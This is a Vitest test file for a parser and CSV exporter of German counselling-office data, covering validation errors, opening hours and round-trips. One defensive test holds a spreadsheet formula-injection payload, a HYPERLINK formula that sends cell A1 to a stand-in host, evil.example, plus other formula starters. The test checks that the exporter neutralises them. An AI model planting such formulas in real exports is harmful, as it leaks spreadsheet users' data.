import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { DatasetValidationError } from "../errors.js";
import { readCsv } from "./csv-text.js";
import { parseOfficeCsv, toOfficeCsv } from "./office-csv.js";
import { MAX_OPENING_HOURS_ERRORS } from "./opening-hours-text.js";

const templatePath = fileURLToPath(
  new URL("../../../../docs/examples/offices-template.csv", import.meta.url),
);

const HEADER = "id,provider_id,provider_name,name,programmes,street,postal_code,city,state,opening_hours";

describe("parseOfficeCsv", () => {
  it("reads the documented template with zero errors", () => {
    const result = parseOfficeCsv(readFileSync(templatePath, "utf8"));
    expect(result.errors).toEqual([]);
    expect(result.delimiter).toBe(";");
    expect(result.offices.map((office) => office.id)).toEqual([
      "beispiel-mbe-berlin-mitte",
      "beispiel-jmd-berlin-mitte",
      "beispiel-mbe-koeln",
      "beispiel-mbe-muenchen",
      "beispiel-jmd-online",
    ]);
    expect(result.providers.map((provider) => provider.id)).toEqual([
      "beispieltraeger-berlin",
      "beispiel-koeln",
      "beispiel-muenchen",
    ]);
    const [mitte, jmd, koeln] = result.offices;
    expect(mitte?.geo).toEqual({ lat: 52.5321, lon: 13.3849 });
    expect(mitte?.description?.de).toContain("\nBitte Ausweis mitbringen.");
    expect(mitte?.openingHours?.weekly.th).toEqual([{ from: "14:00", to: "18:00", kind: "appointment" }]);
    expect(jmd?.contact.phones).toEqual([
      { number: "030 23125 102", type: "voice" },
      { number: "030 23125 109", type: "fax" },
    ]);
    expect(jmd?.ageRange).toEqual({ min: 12, max: 26 });
    expect(koeln?.address).toEqual({
      street: "Musterweg 3",
      postalCode: "50823",
      city: "Köln",
      state: "DE-NW",
    });
    expect(koeln?.lastVerified).toBe("2026-10-24");
    expect(result.offices[4]?.address).toBeUndefined();
  });

  it("reports the file line of a bad row, counting newlines inside quoted cells", () => {
    const text = [
      HEADER,
      'a,p,Träger,"Büro\nmit Umbruch",MBE,Weg 1,10115,Berlin,Berlin,Mo 09:00-12:00',
      "b,p,Träger,Büro B,MBE,Weg 2,1011,Berlin,Berlin,Mo 09:00-12:00",
      "c,p,Träger,Büro C,XYZ,Weg 3,10115,Berlin,Bayernland,Mo 09:00-12:00",
    ].join("\n");
    const result = parseOfficeCsv(text);
    const { offices, errors } = result;
    expect(offices.map((office) => office.id)).toEqual(["a", "b"]);
    expect(offices[1]?.address?.postalCode).toBe("01011");
    // The result shape: the old names are the same lists.
    expect(result.value).toEqual({ offices, providers: result.providers });
    expect(result.issues).toBe(errors);
    expect(result.warnings).toEqual([]);
    expect(errors).toEqual([
      {
        code: "invalid_cell",
        path: "programmes (column 5)",
        line: 5,
        column: 5,
        field: "programmes",
        message: expect.stringContaining('received "XYZ"'),
        expected: 'programmes such as "MBE" or "JMD, MBEON"',
        received: '"XYZ"',
      },
      {
        code: "invalid_cell",
        path: "state (column 9)",
        line: 5,
        column: 9,
        field: "state",
        message: expect.stringContaining('received "Bayernland"'),
        expected: 'a German state such as "Nordrhein-Westfalen" or "DE-NW"',
        received: '"Bayernland"',
      },
    ]);
  });

  it("reads the programme Faire Mobilität by its code or its name, umlaut or not", () => {
    const text = [
      HEADER,
      'a,p,Träger,Büro A,"Faire Mobilität, faire_integration",Weg 1,10115,Berlin,Berlin,',
      "b,p,Träger,Büro B,Faire Mobilitaet,Weg 2,10115,Berlin,Berlin,",
      "c,p,Träger,Büro C,FAIRE_MOBILITAET,Weg 3,10115,Berlin,Berlin,",
    ].join("\n");
    const { offices, errors } = parseOfficeCsv(text);
    expect(errors).toEqual([]);
    expect(offices.map((office) => office.programmes)).toEqual([
      ["FAIRE_MOBILITAET", "FAIRE_INTEGRATION"],
      ["FAIRE_MOBILITAET"],
      ["FAIRE_MOBILITAET"],
    ]);
  });

  it("reports schema problems in the column that holds them", () => {
    const text = [
      `${HEADER},email,lat,lon`,
      "a,p,Träger,Büro,MBE,Weg 1,ABCDE,Berlin,Berlin,,keine-mail,48.1,2.3",
    ].join("\r\n");
    const { errors } = parseOfficeCsv(text);
    expect(errors.map((error) => [error.line, error.field, error.code])).toEqual([
      [2, "postal_code", "invalid_format"],
      [2, "email", "invalid_format"],
      [2, "lon", "too_small"],
    ]);
  });

  it("reports opening-hours mistakes with the character position", () => {
    const { errors } = parseOfficeCsv(
      `${HEADER}\na,p,Träger,Büro,MBE,Weg 1,10115,Berlin,Berlin,Mo 09:00-12:00; Xy 10:00-11:00`,
    );
    expect(errors).toMatchObject([
      {
        code: "invalid_opening_hours",
        line: 2,
        column: 10,
        field: "opening_hours",
        message: expect.stringMatching(/received "Xy".*at character 17/),
      },
    ]);
  });

  it("bounds the problems and the quoted excerpt of a huge opening-hours cell", () => {
    const cell = "Mo-Fr 09:00-12:00; ".repeat(300);
    const { errors } = parseOfficeCsv(`${HEADER}\na,p,Träger,Büro,MBE,Weg 1,10115,Berlin,Berlin,${cell}`);
    const hours = errors.filter((error) => error.field === "opening_hours");
    expect(hours).toHaveLength(MAX_OPENING_HOURS_ERRORS + 1);
    expect(hours.at(-1)?.message).toMatch(/^and 1485 more problems after these; fix the ones listed first/);
    for (const error of hours) expect(error.message.length).toBeLessThan(300);
  });

  it("lists at most eleven problems of a cell and counts the rest, quoting short excerpts", () => {
    const topics = Array.from({ length: 5_000 }, (_, i) => `thema-${i}`).join(", ");
    const header = "id,provider_id,provider_name,name,programmes,topics,state";
    const { errors } = parseOfficeCsv(`${header}\na,p,Träger,Büro,MBE,"${topics}","${"x".repeat(60_000)}"`);
    const inTopics = errors.filter((error) => error.field === "topics");
    expect(inTopics).toHaveLength(12);
    expect(inTopics.at(-1)?.message).toBe("and 4989 more problems in this cell");
    for (const error of errors) expect(error.message.length).toBeLessThan(400);
  });

  it("leaves out a row with more cells than the header, naming line and counts, and shifts nothing", () => {
    const header = "id;provider_id;provider_name;name;programmes;description_de;languages";
    const text = `${header}\na;p;Träger;Büro A;MBE;Beratung; auch online;de\nb;p;Träger;Büro B;JMD;Hilfe;de`;
    const { offices, errors } = parseOfficeCsv(text);
    expect(errors).toEqual([
      {
        code: "extra_cells",
        path: "(column 8)",
        line: 2,
        column: 8,
        field: "",
        message: expect.stringMatching(/^expected 7 cells as in the header row, received 8: a ";" inside/),
      },
    ]);
    expect(offices.map((office) => office.id)).toEqual(["b"]);
    expect(offices[0]?.description).toEqual({ de: "Hilfe" });
  });

  it("throws INVALID_CSV with the header row's issues when a required column is missing", () => {
    let thrown: unknown;
    try {
      parseOfficeCsv("id,titel\n1,x\n");
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(DatasetValidationError);
    expect(thrown).toMatchObject({ code: "INVALID_CSV" });
    expect((thrown as Error).message).toMatch(
      /^The CSV file cannot be read: line 1 titel \(column 2\): unknown column/,
    );
    expect((thrown as DatasetValidationError).issues).toEqual([
      {
        code: "unknown_column",
        path: "titel (column 2)",
        line: 1,
        column: 2,
        field: "titel",
        message: expect.stringContaining('unknown column "titel"'),
      },
      {
        code: "csv_header",
        path: "name",
        line: 1,
        field: "name",
        message: expect.stringContaining('"name"'),
      },
      {
        code: "csv_header",
        path: "programmes",
        line: 1,
        field: "programmes",
        message: expect.stringContaining('"programmes"'),
      },
      {
        code: "csv_header",
        path: "provider_id",
        line: 1,
        field: "provider_id",
        message: expect.stringContaining('"provider_id"'),
      },
    ]);
  });

  it("throws INVALID_CSV for an empty file or a repeated column, and reads the rows beside an unknown column", () => {
    expect(() => parseOfficeCsv("")).toThrowError(
      expect.objectContaining({
        code: "INVALID_CSV",
        issues: [expect.objectContaining({ code: "csv_header" })],
      }),
    );
    expect(() => parseOfficeCsv(`${HEADER},name\na,p,Träger,Büro,MBE,,,,,,`)).toThrowError(
      /the column "name" appears twice/,
    );
    const { value, issues } = parseOfficeCsv(`${HEADER},fax\na,p,Träger,Büro,MBE,,,,,,030 1`);
    expect(value.offices.map((office) => office.id)).toEqual(["a"]);
    expect(issues).toMatchObject([{ code: "unknown_column", path: "fax (column 11)" }]);
  });

  it("reports duplicate office ids and conflicting provider names", () => {
    const text = [HEADER, "a,p,Träger A,Büro,MBE,,,,,", "a,p,Träger B,Büro,MBE,,,,,"].join("\n");
    const { errors } = parseOfficeCsv(text);
    expect(errors.map((error) => [error.line, error.field, error.code])).toEqual([
      [3, "id", "duplicate_id"],
      [3, "provider_name", "invalid_cell"],
    ]);
  });
});

describe("toOfficeCsv", () => {
  it("writes a sheet that reads back to the same offices and providers", () => {
    const parsed = parseOfficeCsv(readFileSync(templatePath, "utf8"));
    const again = parseOfficeCsv(toOfficeCsv(parsed));
    expect(again.errors).toEqual([]);
    expect(again.offices).toEqual(parsed.offices);
    expect(again.providers).toEqual(parsed.providers);
    expect(parseOfficeCsv(toOfficeCsv(parsed, { delimiter: ";", bom: true })).offices).toEqual(
      parsed.offices,
    );
    expect(toOfficeCsv(parsed, { bom: true }).charCodeAt(0)).toBe(0xfeff);
  });

  it("neutralises cells a spreadsheet would run as formulas and reads its own export back unchanged", () => {
    const parsed = parseOfficeCsv(readFileSync(templatePath, "utf8"));
    const [first, ...rest] = parsed.offices;
    const hostile = {
      ...first!,
      name: '=HYPERLINK("http://evil.example/?"&A1;"Termin buchen")',
      languageNote: "@SUM(A1:A9)",
      description: { de: "-1+1 Beratung" },
      contact: { ...first!.contact, phones: [{ number: "+49 (0)30 1234-567", type: "voice" as const }] },
    };
    const csv = toOfficeCsv({ offices: [hostile, ...rest], providers: parsed.providers }, { delimiter: ";" });
    const row = readCsv(csv, { delimiter: ";" }).records[1]!;
    const raw = csv.split("\r\n")[1]!;
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Termin buchen"")"`);
    expect(raw).toContain(";'@SUM(A1:A9);");
    expect(raw).toContain(";'-1+1 Beratung;");
    expect(raw).toContain(";+49 (0)30 1234-567;");
    expect(raw).toContain(`;${first!.geo!.lat};`);
    expect(row.fields).toContain(hostile.name);
    const again = parseOfficeCsv(csv);
    expect(again.errors).toEqual([]);
    expect(again.offices[0]).toEqual(hostile);
  });
});

describe("the 1.1 columns", () => {
  const header =
    "id,provider_name,name,programmes,street,postal_code,city,state,languages,municipality_key,woman_counsellor,free_of_charge,intake,intake_note";
  const row = (cells: string) => parseOfficeCsv(`${header}\n${cells}\n`);

  it("read language modes, the municipality key, a woman counsellor, free of charge and intake", () => {
    const { offices, errors } = row(
      'o1,Träger,Beratung,OTHER,Weg 1,50226,Frechen,NRW,"de, ar:interpreter, fa (auf Anfrage), ti:counsellor",05362024,ja,nein,Warteliste,etwa 6 Wochen',
    );
    expect(errors).toEqual([]);
    expect(offices[0]).toMatchObject({
      languages: ["de", { code: "ar", mode: "interpreter" }, { code: "fa", mode: "on-request" }, "ti"],
      address: { municipalityKey: "05362024" },
      womanCounsellor: true,
      freeOfCharge: false,
      intake: { status: "waiting-list", note: "etwa 6 Wochen" },
    });
    // And back: the same cells, so a spreadsheet round-trips.
    const written = toOfficeCsv({
      offices,
      providers: parseOfficeCsv(`${header}\n${"o1,Träger,Beratung,OTHER,Weg 1,50226,Frechen,NRW,,,,,,"}\n`)
        .providers,
    });
    const again = parseOfficeCsv(written);
    expect(again.errors).toEqual([]);
    expect(again.offices).toEqual(offices);
    expect(written).toContain("de, ar:interpreter, fa:on-request, ti");
    expect(written).toContain(",05362024,ja,nein,warteliste,etwa 6 Wochen");
  });

  it("name the cell that is wrong", () => {
    const { errors } = row(
      "o1,Träger,Beratung,MBE,Weg 1,50226,Frechen,NRW,ar:sometimes,5362020,vielleicht,unbekannt,zu,",
    );
    expect(errors.map((error) => error.field).sort()).toEqual([
      "free_of_charge",
      "intake",
      "languages",
      "municipality_key",
      "woman_counsellor",
    ]);
  });

  it("leave a 1.0 template without these columns as it was", () => {
    const { offices, errors } = parseOfficeCsv(
      `${HEADER}\nm1,,Träger,MBE Köln,MBE,Weg 1,50667,Köln,NRW,Mo 09:00-12:00\n`,
    );
    expect(errors).toEqual([]);
    expect(offices[0]).not.toHaveProperty("womanCounsellor");
    expect(offices[0]).not.toHaveProperty("intake");
    expect(offices[0]?.address).not.toHaveProperty("municipalityKey");
  });
});
